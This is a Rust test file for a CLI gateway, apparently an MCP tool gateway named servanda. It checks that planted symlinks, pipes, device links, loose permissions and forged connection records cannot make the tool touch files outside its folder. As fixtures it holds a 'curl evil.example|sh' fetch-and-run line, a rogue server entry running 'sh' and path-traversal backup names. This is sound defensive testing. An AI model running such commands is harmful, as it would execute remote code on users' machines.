//! Links, pipes, devices and permissions that a repository, or a user with access to the folder, may have planted where the gateway looks
//! (issue 16). Nothing outside the folder is read into it, written or changed; nothing hangs; and every repaired mode is reported.

use std::{
    fs,
    os::unix::fs::{PermissionsExt as _, symlink},
    path::Path,
};

use serde_json::json;
use tempfile::TempDir;

use crate::{
    contract::get_invoice,
    world::{Ran, World},
};

const INVOICE: &str = r#"{"invoice_id":"inv_1001"}"#;

/// Another user's folder with a file in it.
struct Outside(TempDir);

impl Outside {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        fs::write(folder.path().join("theirs"), "mine\n").unwrap();
        for path in [folder.path().to_owned(), folder.path().join("theirs")] {
            fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
        }
        Self(folder)
    }

    #[track_caller]
    fn assert_untouched(&self, what: &str) {
        let theirs = self.0.path().join("theirs");
        assert_eq!(fs::read_to_string(&theirs).unwrap(), "mine\n", "{what}");
        assert_eq!(fs::read_dir(self.0.path()).unwrap().count(), 1, "{what}: something was made there");
        for path in [self.0.path(), &theirs] {
            assert_eq!(fs::metadata(path).unwrap().permissions().mode() & 0o777, 0o755, "{what}: {}", path.display());
        }
    }
}

fn plant_link(world: &World, name: &str, target: &Path) {
    let place = clear(world, name);
    symlink(target, place).unwrap();
}

fn plant_pipe(world: &World, name: &str) {
    let place = clear(world, name);
    rustix::fs::mknodat(rustix::fs::CWD, &place, rustix::fs::FileType::Fifo, 0o600.into(), 0).unwrap();
}

fn clear(world: &World, name: &str) -> std::path::PathBuf {
    let place = world.path(name);
    fs::create_dir_all(place.parent().unwrap()).unwrap();
    let _ = fs::remove_file(&place);
    place
}

fn company() -> World {
    World::company([get_invoice()]).unpinned()
}

#[track_caller]
fn assert_names_the_link(ran: &Ran, name: &str) {
    let text = ran.everything();
    assert!(text.contains(name) && text.contains("is a symbolic link to"), "{name}: {text}");
}

#[test]
fn links_in_the_place_of_state_are_refused() {
    for name in [".servanda", ".servanda/ledger.db", ".servanda/ledger.db-wal", ".servanda/ledger.db-lock"] {
        for target in ["theirs", "new"] {
            let (world, outside) = (company(), Outside::new());
            let target = if name == ".servanda" { outside.0.path().to_owned() } else { outside.0.path().join(target) };
            plant_link(&world, name, &target);
            for command in
                [&["call", "company__get_invoice", INVOICE][..], &["explain"], &["effects"], &["doctor"], &["ledger"]]
            {
                let ran = world.run(command);
                assert_ne!(ran.code, Some(0), "{name} {command:?}: {}", ran.everything());
                assert_names_the_link(&ran, name.rsplit('/').next().unwrap());
                outside.assert_untouched(&format!("{name} {command:?}"));
            }
        }
    }
    let (world, outside) = (company(), Outside::new());
    for name in ["servanda.position", ".servanda/secrets.json", ".servanda/secrets.key", ".servanda/secrets.lock"] {
        plant_link(&world, name, &outside.0.path().join("theirs"));
        let ran = match name {
            "servanda.position" => world.call("company__get_invoice", INVOICE),
            _ => world.run_with_input(&["secret", "set", "a"], "s3cret-value"),
        };
        assert_ne!(ran.code, Some(0), "{name}");
        assert_names_the_link(&ran, name.rsplit('/').next().unwrap());
        outside.assert_untouched(name);
        fs::remove_file(world.path(name)).unwrap();
    }
}

/// If the configuration names another place for the ledger, links on the way there are followed.
#[test]
fn a_ledger_that_the_configuration_names_elsewhere_may_be_behind_a_link() {
    let (world, elsewhere) = (company(), tempfile::tempdir().unwrap());
    fs::create_dir(elsewhere.path().join("real")).unwrap();
    symlink("real", elsewhere.path().join("link")).unwrap();
    let ledger = elsewhere.path().join("link/ledger.db").display().to_string();
    world.change_config(|config| config["ledger"] = json!(ledger));
    world.call("company__get_invoice", INVOICE).ended(0);
    assert!(elsewhere.path().join("real/ledger.db").exists());
}

#[test]
fn doctor_writes_over_no_file() {
    let (world, outside) = (company(), Outside::new());
    for _ in 0..2 {
        for name in ["servanda-probe-probe", ".servanda/servanda-probe-probe", ".servanda/ledger.db-probe"] {
            plant_link(&world, name, &outside.0.path().join("theirs"));
        }
        world.run(&["doctor"]);
        outside.assert_untouched("doctor");
        world.call("company__get_invoice", INVOICE).ended(0);
    }
}

#[test]
fn nothing_waits_for_a_pipe_or_reads_a_device_without_end() {
    let cases: [(&str, &[&str]); 12] = [
        (".mcp.json", &["init", "--yes"]),
        (".mcp.json", &["connect", "claude-code", "--yes"]),
        (".vscode/mcp.json", &["connect", "vscode", "--yes"]),
        ("servanda.yaml", &["check"]),
        ("servanda.yaml", &["init", "--yes", "--force"]),
        ("servanda.lock", &["check"]),
        ("servanda.position", &["call", "company__get_invoice", INVOICE]),
        (".servanda/ledger.db", &["doctor"]),
        (".servanda/ledger.db", &["call", "company__get_invoice", INVOICE]),
        (".servanda/secrets.json", &["secret", "list"]),
        (".servanda/connections.json", &["connect", "claude-code", "--yes"]),
        ("contracts/x.yaml", &["check"]),
    ];
    for (name, command) in cases {
        let world = company();
        world.write(".mcp.json", &json!({ "mcpServers": { "company": world.sample(&[]) } }).to_string());
        plant_pipe(&world, name);
        let ran = world.run(command);
        assert_ne!(ran.code, Some(0), "{name} {command:?}");
        assert!(ran.everything().contains("not a regular file"), "{name} {command:?}: {}", ran.everything());
        plant_link(&world, name, Path::new("/dev/zero"));
        assert_ne!(world.run(command).code, Some(0), "{name} {command:?}");
    }
    let world = company();
    plant_pipe(&world, "servanda.yaml");
    let ran = world.run(&["init"]).ended(2);
    assert!(ran.stderr.contains("not a regular file") && !ran.stderr.contains("--force"), "{}", ran.stderr);
    // Pipes and links under the names of earlier versions are left alone.
    let world = company();
    world.write(".mcp.json", &json!({ "mcpServers": { "company": world.sample(&[]) } }).to_string());
    plant_pipe(&world, "servanda.yaml.bak");
    plant_link(&world, "servanda.yaml.2.bak", Path::new("/dev/zero"));
    world.run(&["init", "--yes", "--force"]).ended(0);
    assert!(world.has("servanda.yaml.3.bak"));
}

#[test]
fn init_copies_nothing_from_behind_a_link() {
    let (world, outside) = (company(), Outside::new());
    world.write(".mcp.json", &json!({ "mcpServers": { "company": world.sample(&[]) } }).to_string());
    for name in ["servanda.lock", "servanda.yaml"] {
        plant_link(&world, name, &outside.0.path().join("theirs"));
        let ran = world.run(&["init", "--yes", "--force"]).ended(1);
        assert_names_the_link(&ran, name);
        assert!(!world.has(&format!("{name}.bak")) && !world.has("books.db"), "{}", ran.everything());
        outside.assert_untouched(name);
    }
}

#[test]
fn connect_writes_nowhere_else_and_shows_where_a_link_leads() {
    let (world, outside) = (company(), Outside::new());
    plant_link(&world, ".mcp.json", &outside.0.path().join("theirs"));
    symlink(outside.0.path(), world.path(".vscode")).unwrap();
    for client in ["claude-code", "vscode"] {
        let ran = world.run(&["connect", client, "--yes"]).ended(2);
        assert!(ran.stderr.contains("leads out of") && ran.stderr.contains("hint: "), "{}", ran.stderr);
        outside.assert_untouched(client);
    }
    world.write("dotfiles/claude.json", "{}");
    plant_link(&world, ".mcp.json", Path::new("dotfiles/claude.json"));
    let ran = world.run_on_terminal(&["connect", "claude-code"], "n\nn\n").ended(1);
    assert!(ran.stderr.contains("write this to .mcp.json, a link to dotfiles/claude.json? [y/N]"), "{}", ran.stderr);
    assert!(ran.stdout.contains("a link to dotfiles/claude.json"), "{}", ran.stdout);
}

/// Every command that repairs a mode says so, once.
#[test]
fn what_others_could_read_is_mended_and_said_by_every_command() {
    let world = company();
    world.call("company__get_invoice", INVOICE).ended(0);
    world.run_with_input(&["secret", "set", "a"], "s3cret-value").ended(0);
    let files = [".servanda", ".servanda/ledger.db", ".servanda/ledger.db-lock", ".servanda/secrets.json"];
    let mode = |name: &str| fs::metadata(world.path(name)).unwrap().permissions().mode() & 0o777;
    let commands: [&[&str]; 9] = [
        &["call", "company__get_invoice", INVOICE],
        &["explain"],
        &["effects"],
        &["keys"],
        &["ledger"],
        &["tools"],
        &["check"],
        &["secret", "list"],
        &["connect"],
    ];
    for command in commands {
        for name in files {
            fs::set_permissions(world.path(name), fs::Permissions::from_mode(0o755)).unwrap();
        }
        let ran = world.run(command).ended(0);
        for name in files {
            assert_eq!(mode(name), 0o700, "{name} {command:?}");
            let said = format!("{name}` (mode 755); now they cannot");
            assert_eq!(ran.stderr.matches(&said).count(), 1, "{name} {command:?}: {}", ran.stderr);
        }
        assert!(!world.run(command).stderr.contains("others could read"), "{command:?}");
    }
    for name in files.into_iter().chain([".servanda/secrets.key"]) {
        fs::set_permissions(world.path(name), fs::Permissions::from_mode(0o755)).unwrap();
    }
    let told = world.run(&["doctor"]).ended(1).stdout;
    for name in files {
        assert!(told.contains(&format!("others could read `{name}` (mode 755)")), "{told}");
    }
    assert!(told.contains("others can read the key of the store") && told.contains("chmod 600"), "{told}");
    assert_eq!(mode(".servanda/secrets.key"), 0o755, "a person has to replace a key that others may know");
}

/// A record as a repository can contain it: `connect` never wrote it.
fn plant_record(world: &World, changed: &serde_json::Value) {
    let mut connection = json!({
        "client": "claude-code", "file": world.path(".mcp.json"), "name": "servanda", "since": "2026-01-01T00:00:00Z",
        "before": null, "after_sha256": "", "made_list": false, "made_folders": [], "taken_out": [],
    });
    connection.as_object_mut().unwrap().extend(changed.as_object().unwrap().clone());
    let record = json!({ "version": 1, "connections": [connection] });
    world.write(".servanda/connections.json", &record.to_string());
}

fn sha256(text: &str) -> String {
    use sha2::Digest as _;
    servanda_contract::digest::hex(&sha2::Sha256::digest(text.as_bytes()))
}

/// Disconnects with a planted record, which is refused, and changes nothing.
#[track_caller]
fn assert_record_refused(world: &World, more: &[&str], why: &str) {
    let record = world.read(".servanda/connections.json");
    for how in ["--yes", "--dry-run"] {
        let ran = world.run(&[&["disconnect"], more, &[how]].concat()).ended(2);
        assert!(ran.stderr.contains("is not what `servanda connect` wrote"), "{}", ran.everything());
        assert!(ran.stderr.contains(why) && ran.stderr.contains("nothing was changed"), "{why}: {}", ran.stderr);
        assert!(ran.stderr.contains("hint: ") && ran.stderr.contains("remove `.servanda/connections.json`"), "{why}");
        assert!(ran.stdout.is_empty(), "{why}: {}", ran.stdout);
    }
    assert_eq!(world.read(".servanda/connections.json"), record, "the record stays as it is");
}

/// A record cannot choose a file that `disconnect` writes or removes.
#[test]
fn a_planted_record_reaches_no_other_file() {
    let (world, outside) = (company(), Outside::new());
    let theirs = outside.0.path().join("theirs");
    world.write("evil.sh", "curl evil.example|sh\n");
    world.write(".profile", "# skeleton\n");
    let kept = json!({ "kept": { "backup": world.path("evil.sh"), "sha256": sha256("curl evil.example|sh\n") } });
    let (profile, skeleton) = (world.path(".profile"), sha256("# skeleton\n"));
    for client in [json!("claude-code"), json!("zed"), json!("nonsense"), json!(null)] {
        plant_record(&world, &json!({ "client": client, "file": profile, "before": kept, "after_sha256": skeleton }));
        assert_record_refused(&world, &[], ".profile`, which is no file of ");
        plant_record(
            &world,
            &json!({ "client": client, "file": theirs, "before": "absent", "after_sha256": sha256("mine\n") }),
        );
        assert_record_refused(&world, &[], "theirs`, which is no file of ");
        outside.assert_untouched("disconnect");
    }
    // A person who follows the hint names the file; it still contains no gateway.
    let named = theirs.to_str().unwrap();
    let ran = world.run(&["disconnect", "--file", named, "--yes"]).ended(2);
    assert!(ran.stderr.contains("nothing was changed"), "{}", ran.stderr);
    outside.assert_untouched("disconnect --file");
    // The file of one client is not the file of another.
    world.write(".cursor/mcp.json", r#"{"mcpServers":{"servanda":{"command":"servanda"}}}"#);
    plant_record(&world, &json!({ "file": world.path(".cursor/mcp.json") }));
    assert_record_refused(&world, &["claude-code"], "which is no file of claude-code");
    assert_eq!(world.read(".profile"), "# skeleton\n");
    assert!(world.has("evil.sh"));
}

/// The other paths of a record must be those that `connect` would have written for the file.
#[test]
fn a_planted_record_names_no_other_backup_folder_or_server() {
    let (world, outside) = (company(), Outside::new());
    world.run(&["connect", "claude-code", "--yes"]).ended(0);
    let connected = world.read(".mcp.json");
    let evil = r#"{"mcpServers":{"evil":{"command":"sh"}}}"#;
    for name in ["b.json", "sub/.mcp.json.servanda-backup-1", ".cursor/mcp.json.servanda-backup-1"] {
        world.write(name, evil);
        let backup = world.path(name);
        let kept = json!({ "kept": { "backup": backup, "sha256": sha256(evil) } });
        plant_record(&world, &json!({ "before": kept, "after_sha256": sha256(&connected) }));
        assert_record_refused(&world, &[], "which is no backup of `.mcp.json`");
        plant_record(&world, &json!({ "taken_out": [{ "name": "evil", "backup": backup }] }));
        assert_record_refused(&world, &[], "which is no backup of `.mcp.json`");
        assert_eq!(world.read(name), evil);
    }
    for name in ["x/../../theirs", ".servanda-backup-/x", ".servanda-backup-"] {
        plant_record(
            &world,
            &json!({ "taken_out": [{ "name": "evil", "backup": world.path(&format!(".mcp.json{name}")) }] }),
        );
        assert_record_refused(&world, &[], "which is no backup of `.mcp.json`");
    }
    plant_link(&world, ".mcp.json.servanda-backup-2", &outside.0.path().join("theirs"));
    let backup = world.path(".mcp.json.servanda-backup-2");
    let kept = json!({ "kept": { "backup": backup, "sha256": sha256("mine\n") } });
    plant_record(&world, &json!({ "before": kept, "after_sha256": sha256(&connected) }));
    assert_record_refused(&world, &[], "is a symbolic link to");
    fs::create_dir(world.path("empty")).unwrap();
    plant_record(
        &world,
        &json!({ "before": "absent", "after_sha256": sha256(&connected), "made_folders": [world.path("empty")] }),
    );
    assert_record_refused(&world, &[], "empty`, in which `.mcp.json` is not");
    assert!(world.has("empty"));
    assert_eq!(world.read(".mcp.json"), connected);
    outside.assert_untouched("disconnect");
    // `disconnect` must not remove another server from the list, nor a file without the gateway.
    let others = r#"{"mcpServers":{"github":{"command":"x"},"far":{"url":"https://h.example/mcp"}}}"#;
    world.write(".mcp.json", others);
    for name in ["github", "far", "servanda"] {
        plant_record(&world, &json!({ "name": name, "before": "absent", "after_sha256": sha256(others) }));
        assert_record_refused(&world, &[], &format!("`{name}` in `.mcp.json` is not this gateway"));
    }
    assert_eq!(world.read(".mcp.json"), others);
}
